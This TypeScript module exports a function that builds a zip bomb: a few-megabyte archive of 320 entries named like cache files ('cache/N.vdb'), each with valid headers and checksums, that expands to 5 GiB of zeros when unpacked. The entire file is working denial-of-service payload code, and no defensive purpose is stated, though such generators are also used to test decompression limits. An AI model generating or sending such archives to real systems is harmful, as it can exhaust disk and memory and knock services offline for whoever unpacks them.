import { writeFile } from 'node:fs/promises'
import { crc32, deflateRawSync } from 'node:zlib'
import { Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js'

const zeros = new Uint8Array(16 * 1024 * 1024)
const files = 320

/** Writes a zip of a few megabytes, with correct headers, that unpacks to 5 GiB. */
export async function makeBomb(file: string): Promise<void> {
  const packed = deflateRawSync(zeros)
  const reported = { uncompressedSize: zeros.length, signature: crc32(zeros), compressionMethod: 8 }
  const zip = new ZipWriter(new Uint8ArrayWriter(), { useWebWorkers: false })
  for (let at = 0; at < files; at += 1)
    await zip.add(`cache/${at}.vdb`, new Uint8ArrayReader(packed), {
      ...reported,
      passThrough: true,
    })
  await writeFile(file, await zip.close())
}
